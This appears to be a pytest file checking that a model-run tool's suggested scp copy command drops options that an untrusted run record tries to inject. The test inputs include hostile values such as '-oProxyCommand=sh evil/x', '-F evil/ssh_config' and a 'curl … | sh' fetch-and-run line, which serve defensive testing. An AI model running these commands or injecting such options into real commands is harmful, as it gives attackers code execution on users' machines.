"""What the thirty-second review found."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from stoker.contract.names import Refusal
from stoker.training.generate.finding import find


def refusal_of(folder: Path, words: Any) -> str:
    """What `stoker chat FOLDER` prints where the record says that its files are on another host."""
    folder.mkdir()
    about = {"name": "evil", "plan": {"ranks": [{"rank": 0, "host": "gpu7"}]}, "apart": {"gpu7": words}}
    (folder / "run.json").write_text(json.dumps(about))
    ended = {"status": "completed", "cause": "completed", "summary": "", "exit_code": 0}
    (folder / "verdict.json").write_text(json.dumps(ended))
    with pytest.raises(Refusal) as refused:
        find(str(folder), None, str(folder.parent), print)
    return refused.value.line


@pytest.mark.parametrize(
    "words",
    [
        ["scp", "-r", "-F", "evil/ssh_config", "-P", "2222", "-i", "key", "me@gpu7:"],
        ["scp", "-r", "-oProxyCommand=sh evil/x", "-P", "2222", "-i", "key", "me@gpu7:"],
        ["scp", "-r", "-P", "2222", "-i", "key", "-S", "evil/x", "-D", "evil/x", "me@gpu7:"],
        ["scp", "-r", "-P", "-oProxyCommand=evil/x", "-i", "-Fevil/x", "-P", "2222", "-i", "key", "me@gpu7:"],
    ],
)
def test_a_strangers_record_puts_no_program_into_the_command_that_copies_a_model(
    tmp_path: Path, words: list[str]
) -> None:
    """`stoker chat evil` advised `scp -r -F evil/ssh_config …`, which starts the program that this file names."""
    folder = tmp_path / "evil"
    line = refusal_of(folder, words)
    copy = f"scp -r -P 2222 -i key me@gpu7:{folder}/hf {os.path.relpath(folder)}/"
    assert line.partition(" to copy the model: ")[2].partition("   # ")[0] == copy


@pytest.mark.parametrize(
    "words",
    [
        ["bash", "-c", "curl -s http://203.0.113.9/k | sh #"],
        ["scp", "-r", "-oProxyCommand=evil/x:"],
        ["scp", "-r"],
        ["scp", "-r", {"a": 1}],
        [],
        {},
        5,
        None,
        "abc",
    ],
)
def test_a_record_without_a_command_that_copies_is_one_line(tmp_path: Path, words: Any) -> None:
    line = refusal_of(tmp_path / "evil", words)
    assert line.endswith(f"its files are on host gpu7, in {tmp_path / 'evil'}")
